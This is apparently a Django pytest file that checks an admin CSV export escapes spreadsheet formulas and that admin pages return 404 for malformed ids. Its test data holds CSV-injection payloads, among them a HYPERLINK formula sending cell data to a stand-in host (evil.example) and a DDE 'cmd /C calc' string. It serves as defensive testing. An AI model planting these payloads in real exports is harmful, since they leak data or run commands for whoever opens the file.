"""The admin's CSV export is inert in a spreadsheet, and every per-object admin page answers a malformed
or unknown id with a 404, never a 500."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from sessions_app.admin.exports import spreadsheet_safe
from sessions_app.tests.factories import ContactFactory, ConversationFactory, MessageFactory

from .test_admin_matrix import NOT_OWNED, per_object_routes, registered

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_export(client, conversation):
    response = client.post(
        reverse("admin:sessions_app_conversation_changelist"),
        {"action": "export_csv", "_selected_action": [str(conversation.pk)], "index": "0"},
    )
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_no_exported_cell_starts_a_formula(reviewer, owner, bot):
    bot.name = "=cmd|'/C calc'!A0"
    bot.save()
    contact = ContactFactory(owner=owner, email="=1+1@example.com")
    conversation = ConversationFactory(bot=bot, contact=contact, end_reason="@reason")
    for text in FORMULAS:
        MessageFactory(conversation=conversation, text=text)
    client = Client()
    client.force_login(reviewer)
    rows = csv_export(client, conversation)
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]
    for row in rows:
        assert row["bot"] == "'=cmd|'/C calc'!A0"
        assert row["contact_email"] == "'=1+1@example.com"
        assert row["end_reason"] == "'@reason"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_ordinary_cells_are_exported_unchanged(reviewer, bot):
    conversation = ConversationFactory(bot=bot)
    MessageFactory(conversation=conversation, text="What are your opening hours? 9-5 = fine")
    client = Client()
    client.force_login(reviewer)
    [row] = csv_export(client, conversation)
    assert row["text"] == "What are your opening hours? 9-5 = fine"
    assert row["conversation_id"] == str(conversation.pk)


@pytest.mark.parametrize(
    ("value", "expected"), [("=1", "'=1"), ("", ""), (None, ""), (12, "12"), ("a=b", "a=b"), ("'=1", "'=1")]
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


BAD_IDS = ["not-a-uuid", "00000000-0000-0000-0000-000000000000", "123456789"]


@pytest.mark.parametrize("who", ["owner", "reviewer", "superuser"])
def test_every_per_object_admin_page_answers_a_bad_id_with_a_404(request, who):
    user = request.getfixturevalue(who)
    client = Client(raise_request_exception=False)
    client.force_login(user)
    for label, model_admin in sorted(registered().items()):
        for name in per_object_routes(model_admin):
            for bad in BAD_IDS:
                url = reverse(f"admin:{name}", args=[bad])
                for method in (client.get, client.post):
                    response = method(url)
                    assert response.status_code < 500, f"{who} {method.__name__} {url}: {response.status_code}"
                    if label not in NOT_OWNED and response.status_code != 405:
                        assert response.status_code in (403, 404), f"{who} {url}: {response.status_code}"
